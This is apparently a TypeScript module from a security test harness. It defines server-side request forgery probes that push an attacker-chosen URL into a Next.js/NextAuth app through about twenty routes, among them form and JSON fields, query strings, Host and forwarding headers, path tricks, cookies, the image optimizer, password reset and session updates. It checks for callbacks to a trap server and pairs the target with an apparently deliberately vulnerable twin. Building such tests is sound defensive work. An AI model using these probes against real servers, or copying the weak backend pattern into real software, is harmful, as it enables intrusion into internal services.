import { attackClass, type Gain, type Probe } from '../attackClass.js';
import { kitApp, weakApp, type App } from '../means.js';
import { trap } from '../trap.js';
import { demoUser, someoneSignedIn, Visitor } from '../Visitor.js';

/** Where an address can be put into a request. */
const doors: Readonly<Record<string, (app: App, url: string) => Promise<unknown>>> = {
  'a field baseUrl of a form': (app, url) => new Visitor(app.url).form('/api/auth/callback/credentials', { ...demoUser, baseUrl: url }),
  'fields of a script’s sign-in': async (app, url) => {
    const visitor = new Visitor(app.url);
    return visitor.json('/api/auth/callback/credentials', { csrfToken: await visitor.csrf(), ...demoUser, json: 'true', baseUrl: url, backend: { url }, paths: { login: `${url}/auth/login` }, issuer: url });
  },
  'an e-mail that is an address': (app, url) => new Visitor(app.url).signIn({ email: `${url}/@example.com`, password: url }),
  'the callback URL': (app, url) => new Visitor(app.url).signIn(demoUser, `${url}/`),
  'the query of the sign-in': (app, url) => new Visitor(app.url).form(`/api/auth/callback/credentials?baseUrl=${url}&url=${url}&next=${url}`, demoUser),
  'a provider that is an address': (app, url) => new Visitor(app.url).form(`/api/auth/callback/${encodeURIComponent(url)}`, demoUser),
  Host: (app, url) =>
    new Visitor(app.url).ask('/api/auth/callback/credentials', {
      method: 'POST',
      host: new URL(url).host,
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: app.url, 'sec-fetch-site': 'same-origin', 'x-backend-url': url },
      body: new URLSearchParams(demoUser).toString(),
    }),
  'X-Forwarded-Host': async (app, url) => (await someoneSignedIn(app.url)).ask('/api/backend/products', { headers: { 'x-forwarded-host': new URL(url).host, forwarded: `host=${new URL(url).host};proto=http`, 'x-forwarded-server': url } }),
  'X-Original-URL and X-Rewrite-URL': async (app, url) => (await someoneSignedIn(app.url)).ask('/api/backend/products', { headers: { 'x-original-url': url, 'x-rewrite-url': url } }),
  'an address as the path behind the route': async (app, url) => (await someoneSignedIn(app.url)).ask(`/api/backend/${url}/products`),
  'an encoded address behind the route': async (app, url) => (await someoneSignedIn(app.url)).ask(`/api/backend/${encodeURIComponent(url)}`),
  'an address with two slashes behind the route': async (app, url) => (await someoneSignedIn(app.url)).ask(`/api/backend//${new URL(url).host}/products`, { headers: { 'x-url': url } }),
  'a user name in the path': async (app, url) => (await someoneSignedIn(app.url)).ask(`/api/backend/products@${new URL(url).host}/`, { headers: { 'x-url': url } }),
  'the query of the route': async (app, url) => (await someoneSignedIn(app.url)).ask(`/api/backend/products?baseUrl=${url}&url=${url}&host=${new URL(url).host}`),
  'a cookie': async (app, url) => {
    const visitor = await someoneSignedIn(app.url);
    visitor.cookies.set('backend', encodeURIComponent(url));
    visitor.cookies.set('next-auth.callback-url', encodeURIComponent(url));
    return visitor.ask('/api/backend/products');
  },
  'the whole address in the request line': async (app, url) => (await someoneSignedIn(app.url)).ask(`${url}/api/backend/products`),
  'Next’s optimizer of pictures': async (app, url) => {
    const visitor = await someoneSignedIn(app.url);
    await visitor.ask(`/_next/image?url=${encodeURIComponent(`${url}/x.png`)}&w=64&q=75`);
    return visitor.ask(`/api/backend/products?image=${url}`);
  },
  'a step around a password': (app, url) => new Visitor(app.url).json('/api/auth/account/forgot-password', { email: demoUser.email, webUrl: url, origin: url, callbackUrl: url }),
  'a step that is an address': (app, url) => new Visitor(app.url).json(`/api/auth/account/${encodeURIComponent(`${url}/`)}`, { url }),
  'an update of the session': async (app, url) => {
    const visitor = await someoneSignedIn(app.url);
    await visitor.json('/api/auth/session', { csrfToken: await visitor.csrf(), data: { backend: { url }, baseUrl: url, issuer: url, user: { image: url } } });
    return visitor.ask(`/api/backend/products?${new URLSearchParams({ url }).toString()}`);
  },
};

const probes: Probe<App>[] = Object.entries(doors).map(([name, act]) => ({
  name,
  breach: async (app): Promise<Gain> => {
    const { url, caught } = await trap();
    caught();
    await act(app, url);
    return caught()[0];
  },
}));

/** A request of the server's to an address that a stranger chose. */
export const ssrf = attackClass<App>({ name: 'SSRF', probes, kit: kitApp, twins: { 'a backend whose address comes with the request': weakApp } });
